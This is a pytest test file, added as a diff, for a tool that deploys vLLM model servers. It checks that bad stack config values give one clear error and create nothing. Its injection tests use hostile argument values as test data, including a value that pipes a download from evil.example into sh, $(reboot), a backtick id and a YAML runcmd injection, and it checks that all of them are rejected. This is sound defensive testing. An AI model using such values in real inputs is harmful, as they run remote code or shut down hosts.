@@ -1,0 +1,155 @@
+"""Bad stack config: one clear error naming the key, the value and what would work; and nothing is created."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from conftest import run_plan
+from fleet.errors import ConfigError
+from fleet.spec import parse_spec
+
+BASE = {
+    "cloud": "aws",
+    "region": "us-east-1",
+    "model": "codellama/CodeLlama-7b-Instruct-hf",
+    "maxModelLen": "8192",
+    "allowedCidrs": '["203.0.113.0/24"]',
+}
+
+
+def parse(secret_keys=(), **changes):
+    raw = {**BASE, **{k: (v if isinstance(v, str) else json.dumps(v)) for k, v in changes.items()}}
+    raw = {k: v for k, v in raw.items() if v != "null"}
+    return parse_spec("case", raw, set(secret_keys))
+
+
+def error_of(secret_keys=(), **changes) -> ConfigError:
+    with pytest.raises(ConfigError) as caught:
+        parse(secret_keys, **changes)
+    return caught.value
+
+
+def test_a_good_config_parses_into_an_immutable_spec():
+    spec = parse(replicas={"min": 1, "desired": 2, "max": 3}, spot=True, vllmArgs=["--enable-prefix-caching"])
+    assert (spec.cloud, spec.region, spec.max_model_len) == ("aws", "us-east-1", 8192)
+    assert (spec.replicas.min, spec.replicas.desired, spec.replicas.max) == (1, 2, 3)
+    assert spec.served_model_name == "codellama/CodeLlama-7b-Instruct-hf"
+    assert spec.vllm_args == ("--enable-prefix-caching",)
+    with pytest.raises(AttributeError):
+        spec.region = "us-west-2"  # type: ignore[misc]
+
+
+@pytest.mark.parametrize("changes, key, words", [
+    ({"cloud": "digitalocean"}, "cloud", "must be one of aws, azure, gcp"),
+    ({"cloud": "null"}, "cloud", "must be one of"),
+    ({"region": "us-east-9"}, "region", "must be one of"),
+    ({"region": "us-est-1"}, "region", "did you mean us-east-1"),
+    ({"accelerator": "A100:2"}, "accelerator", "GPU one of A100-40GB, A100-80GB"),
+    ({"accelerator": "A100-80GB:3"}, "accelerator", "count one of (1, 2, 4, 8)"),
+    ({"instanceType": "g5.huge"}, "instanceType", "must be one of"),
+    ({"accelerator": "L4", "instanceType": "g6.xlarge"}, "instanceType", "either accelerator or instanceType"),
+    ({"allowedCidrs": ["10.0.0.0/33"]}, "allowedCidrs", "is not a CIDR"),
+    ({"allowedCidrs": ["not-an-ip"]}, "allowedCidrs", "is not a CIDR"),
+    ({"allowedCidrs": ["10.1.2.3/8"]}, "allowedCidrs", "host bits set; the network is 10.0.0.0/8"),
+    ({"allowedCidrs": []}, "allowedCidrs", "must list who may reach the endpoint"),
+    ({"replicas": {"min": 3, "max": 2}}, "replicas.min", "must not exceed replicas.max (2)"),
+    ({"replicas": {"min": -1, "max": 2}}, "replicas.min", "whole number from 0 to 100"),
+    ({"replicas": {"min": 1, "desired": 5, "max": 2}}, "replicas.desired", "between replicas.min (1) and replicas.max (2)"),
+    ({"replicas": {"min": 1, "maximum": 2}}, "replicas", "must be a map {min, desired, max"),
+    ({"maxModelLen": "100000"}, "maxModelLen", "from 128 to 16384"),
+    ({"dtype": "float8"}, "dtype", "auto, bfloat16, float16"),
+    ({"quantization": "int3"}, "quantization", "none, awq, gptq, fp8"),
+    ({"quantization": "awq"}, "quantization", "is not a awq checkpoint"),
+    ({"model": "s3://bucket/finetune"}, "modelParams", "a bucket URI needs its architecture"),
+    ({"model": "gs://bucket/finetune", "modelParams": {"like": "codellama/CodeLlama-7b-hf"}}, "model", "starts with s3://"),
+    ({"model": "someone/unknown-model"}, "modelParams", "needs its architecture"),
+    ({"model": "not a model id"}, "model", "Hugging Face id"),
+    ({"modelParams": {"like": "codellama/CodeLlama-7b"}}, "modelParams.like", "did you mean"),
+    ({"spot": "sometimes"}, "spot", "true or false"),
+    ({"onDemandBase": "1"}, "onDemandBase", "only applies with spot"),
+    ({"replica": {"min": 1}}, "replica", "did you mean replicas"),
+    ({"gcp": {"project": "x"}}, "gcp", "this stack's cloud is aws"),
+    ({"certificate": "arn:aws:acm:us-east-1:123456789012:certificate/abc"}, "domain", "needs the domain"),
+    ({"domain": "Not A Domain"}, "domain", "DNS name"),
+    ({"dataDiskGb": "10"}, "dataDiskGb", "from 20 to 16384"),
+    ({"tags": {"team": "a;b"}}, "tags.team", "letters, digits"),
+])
+def test_bad_values_name_the_key_value_and_what_works(changes, key, words):
+    error = error_of(**changes)
+    assert error.key == key
+    assert words in str(error)
+    assert str(error).startswith(f"config vllm-fleet:{key} = ")
+
+
+@pytest.mark.parametrize("args", [
+    ["--max-num-seqs", "8; curl evil.example | sh"],
+    ["--chat-template=$(reboot)"],
+    ["--served-model-name=x\nruncmd: [reboot]"],
+    ["--x='quoted'"],
+    ["--enable-prefix-caching", "`id`"],
+    ["--disable-log-requests\"", "x"],
+    ["--a=b c"],
+    ["--foo=\"}\n- evil"],
+])
+def test_vllm_args_refuse_shell_and_yaml_injection(args):
+    error = error_of(vllmArgs=args)
+    assert error.key == "vllmArgs"
+    assert "no spaces, quotes, newlines or shell/YAML characters" in str(error)
+
+
+@pytest.mark.parametrize("flag, owner", [
+    ("--api-key=abc", "apiKey"), ("--tensor-parallel-size=8", "accelerator"), ("--port=9000", None),
+    ("--host=127.0.0.1", None), ("--max-model-len=4096", "maxModelLen"),
+])
+def test_vllm_args_cannot_override_what_the_project_sets(flag, owner):
+    error = error_of(vllmArgs=[flag])
+    assert "is managed by vllm-fleet" in str(error)
+    if owner:
+        assert f"set the {owner} key instead" in str(error)
+
+
+@pytest.mark.parametrize("key", ["apiKey", "hfToken"])
+def test_a_secret_in_plain_text_is_refused(key):
+    error = error_of(**{key: "hf_plaintexttoken"})
+    assert error.key == key
+    assert f"pulumi config set --secret {key}" in str(error)
+    assert "hf_plaintexttoken" not in str(error)  # the error must not print the secret either
+    assert parse(secret_keys=[key], **{key: "x"}).has_api_key == (key == "apiKey")
+
+
+def test_a_bucket_model_with_its_architecture_serves_under_its_last_path_part():
+    spec = parse(model="s3://my-models/ft/codellama-7b-acme", modelParams={"like": "codellama/CodeLlama-7b-hf"})
+    assert spec.model_is_bucket and spec.served_model_name == "codellama-7b-acme"
+    assert spec.arch.layers == 32
+
+
+def test_explicit_model_params_size_an_unknown_model():
+    spec = parse(model="acme/coder-3b", maxModelLen="4096", modelParams={
+        "params_b": 3, "layers": 26, "heads": 24, "kv_heads": 8, "head_dim": 128, "max_len": 8192})
+    assert spec.arch.kv_heads == 8 and spec.max_model_len == 4096
+
+
+def test_an_accelerator_that_cannot_hold_the_model_fails_at_plan_time_with_no_resources(stack_file):
+    path = stack_file({**{k: json.loads(v) if v.startswith("[") else v for k, v in BASE.items()},
+                       "model": "codellama/CodeLlama-70b-Instruct-hf", "maxModelLen": 4096, "accelerator": "A10G:4"})
+    result = run_plan(path)
+    assert result.returncode == 2
+    assert result.stdout == ""  # no plan, no resources
+    assert "config vllm-fleet:accelerator = 'A10G:4': cannot hold codellama/CodeLlama-70b-Instruct-hf" in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+@pytest.mark.parametrize("config, words", [
+    ({"vllm-fleet:apiKey": "plain"}, "config vllm-fleet:apiKey = '<plain text>': is a secret"),
+    ({"vllm-fleet:allowedCidrs": ["300.1.1.0/24"]}, "config vllm-fleet:allowedCidrs = '300.1.1.0/24': is not a CIDR"),
+    ({"vllm-fleet:vllmArgs": ["--max-num-seqs=4;reboot"]}, "config vllm-fleet:vllmArgs = '--max-num-seqs=4;reboot'"),
+    ({"vllm-fleet:replicas": {"min": 2, "max": 1}}, "config vllm-fleet:replicas.min = 2: must not exceed"),
+])
+def test_bad_stack_files_print_one_error_and_no_traceback(stack_file, config, words):
+    base = {k: json.loads(v) if v.startswith("[") else v for k, v in BASE.items()}
+    result = run_plan(stack_file({**base, **config}), fmt="text")
+    assert result.returncode == 2, result.stdout
+    assert words in result.stderr
+    assert "Traceback" not in result.stderr and "Resources:" not in result.stdout
